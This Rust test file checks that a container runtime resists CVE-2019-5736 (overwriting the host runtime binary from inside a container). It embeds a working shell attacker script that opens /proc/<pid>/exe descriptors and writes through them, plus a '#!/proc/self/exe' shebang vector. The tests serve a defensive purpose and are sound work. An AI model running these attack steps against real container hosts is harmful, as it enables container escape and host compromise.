//! CVE-2019-5736: a container process opens the runtime's own executable through
//! /proc/<pid>/exe of a runtime process that is visible in the container, keeps the fd, and
//! reopens it for writing (through /proc/self/fd/N) once no process executes the file any more
//! and ETXTBSY stops protecting it. The next `carrack` anyone runs is then the attacker's.
//!
//! carrack processes are visible in the container at three moments: init between clone3 and
//! execve (all of `created`), an exec'd process between clone3 and execve, and, if the
//! container's program is a `#!/proc/self/exe` script (the original exploit), the kernel
//! itself runs the runtime's binary as the container's process.
//!
//! Every test runs a private copy of the binary (never the build) and compares its bytes
//! before and after.

use crate::common::*;
use crate::util::*;
use std::time::Duration;

/// The attacker, run by busybox sh in the container until /stop exists: for every process it
/// sees, write to /proc/<pid>/exe directly; hold an fd on the executable; and keep reopening
/// every held fd for writing through /proc/self/fd/<n>. Appends (never truncates), so a copy
/// it reaches still runs for `delete --force`. Fds start at 20: ash keeps its own at 10-19.
const ATTACK: &str = r#"
fd=20
held=' '
wrote=' '
scanned=
log() { echo "$*" >> /tmp/attack.log; }
while [ ! -e /stop ]; do
  for p in /proc/[0-9]*; do
    pid=${p#/proc/}
    if echo pwned 2>/dev/null >> $p/exe; then log "WROTE $p/exe directly"; fi
    case "$held" in *" $pid "*) continue ;; esac
    [ $fd -lt 240 ] || continue
    if command eval "exec $fd<$p/exe" 2>/dev/null; then
      held="$held$pid "
      log "held $p/exe as fd $fd: $(readlink /proc/self/fd/$fd)"
      fd=$((fd + 1))
    fi
  done
  [ -n "$scanned" ] || { log "scanned /proc once"; scanned=1; }
  i=20
  while [ $i -lt $fd ]; do
    case "$wrote" in
      *" $i "*) ;;
      *) if echo pwned 2>/dev/null >> /proc/self/fd/$i; then
           wrote="$wrote$i "
           log "WROTE through fd $i: $(readlink /proc/self/fd/$i)"
         fi ;;
    esac
    i=$((i + 1))
  done
done
"#;

#[derive(Clone, Copy, PartialEq)]
enum Vector {
    /// A second attacker exec'd into the created container, while init is still carrack.
    InitBeforeStart,
    /// exec'd processes: carrack clones until their execve.
    ExecChild,
    /// `exec /evil` where /evil is `#!/proc/self/exe`.
    Shebang,
}

struct DeleteWithRealBinary(std::path::PathBuf, String);

impl Drop for DeleteWithRealBinary {
    fn drop(&mut self) {
        let _ = std::process::Command::new(BIN)
            .arg("--root")
            .arg(&self.0)
            .args(["delete", "--force", &self.1])
            .output();
    }
}

/// Create, (attack,) start, (exec,) then leave the binary idle for the attackers; the copy's
/// bytes must be unchanged.
fn attack_runtime_binary(vector: Vector, name: &str) {
    let Some(()) = can_run() else { return };
    let bin = RuntimeCopy::new();
    let before = bin.bytes();
    let sha_before = bin.sha256();
    let b = Bundle::with_runtime(bin.str(), &["sh", "/attack.sh"]);
    put(&b.rootfs().join("attack.sh"), ATTACK, 0o755);
    put(&b.rootfs().join("evil"), "#!/proc/self/exe\n", 0o755);
    let log = b.rootfs().join("tmp/attack.log");
    let id = b.id(name);
    // Dropped before `b`: the real binary cleans up, since a successful attack (the positive
    // control's insecure build) leaves the copy that `b` would use corrupt.
    let _cleanup = DeleteWithRealBinary(b.root.clone(), id.clone());

    let out = b.rt_bundle("create", &id, &[]);
    assert!(out.status.success(), "create: {}", text(&out.stderr));
    if vector == Vector::InitBeforeStart {
        let out = b.rt(&["exec", "-d", &id, "sh", "/attack.sh"]);
        assert!(out.status.success(), "exec -d: {}", text(&out.stderr));
        // It must have looked at pid 1 (init, still running carrack) before start; holding
        // its exe is what the defence prevents, so only the scan is required.
        assert!(
            wait_for(10, || read_or_empty(&log).contains("scanned /proc once")),
            "the attacker did not run before start: {}",
            read_or_empty(&log)
        );
    }
    let out = b.rt(&["start", &id]);
    assert!(out.status.success(), "start: {}", text(&out.stderr));
    match vector {
        Vector::ExecChild => {
            for _ in 0..30 {
                let out = b.rt(&["exec", &id, "true"]);
                assert!(out.status.success(), "exec: {}", text(&out.stderr));
            }
        }
        Vector::Shebang => {
            for _ in 0..10 {
                // Fails either way (the runtime's usage error, or a refusal): what matters is
                // what the attacker could do meanwhile.
                let _ = b.rt(&["exec", &id, "/evil"]);
            }
        }
        Vector::InitBeforeStart => {}
    }
    // No process runs the copy now, so ETXTBSY no longer protects it: the attackers' moment.
    std::thread::sleep(Duration::from_millis(1500));
    std::fs::write(b.rootfs().join("stop"), "").unwrap();
    assert!(b.wait_status(&id, "stopped"), "the attacker did not stop");
    let after = bin.bytes();
    let attack_log = read_or_empty(&log);
    assert!(
        after == before,
        "the container wrote to the runtime binary (sha256 {sha_before} -> {}); attack log:\n{attack_log}",
        bin.sha256()
    );
}

/// Init is a clone of carrack until `start` lets it execve: it must not be reachable through
/// /proc/1/exe while `created`.
#[test]
fn init_exe_is_not_writable_from_the_container() {
    attack_runtime_binary(Vector::InitBeforeStart, "5736-init");
}

/// Each `exec` child is a clone of carrack until its execve.
#[test]
fn exec_child_exe_is_not_writable_from_the_container() {
    attack_runtime_binary(Vector::ExecChild, "5736-exec");
}

/// The original exploit: the container's program is `#!/proc/self/exe`, so execve from a
/// carrack process runs the runtime's own binary inside the container.
#[test]
fn shebang_to_proc_self_exe_does_not_expose_the_runtime_binary() {
    attack_runtime_binary(Vector::Shebang, "5736-shebang");
}

/// "The init stays non-dumpable until exec": a container process can neither read init's
/// /proc files nor resolve its exe while it is created (ptrace uses the same access check).
#[test]
fn init_is_not_dumpable_until_it_execs() {
    let Some(()) = can_run() else { return };
    let b = new_bundle(&["true"]);
    let id = b.id("dumpable");
    let out = b.rt_bundle("create", &id, &[]);
    assert!(out.status.success(), "create: {}", text(&out.stderr));
    let out = b.rt(&[
        "exec",
        &id,
        "sh",
        "-c",
        "readlink /proc/1/exe && echo READ-EXE; readlink /proc/1/fd/0 && echo READ-FD; \
         cat /proc/1/environ >/dev/null && echo READ-ENVIRON; true",
    ]);
    assert!(out.status.success(), "exec: {}", text(&out.stderr));
    let stdout = text(&out.stdout);
    // Listing /proc/1/fd shows only numbers (the directory is root-owned 0500, and the
    // container's root is root): following an entry is what the ptrace check guards.
    for marker in ["READ-EXE", "READ-FD", "READ-ENVIRON"] {
        assert!(
            !stdout.contains(marker),
            "a container process could reach init's /proc files before start ({marker}):\n{stdout}"
        );
    }
}
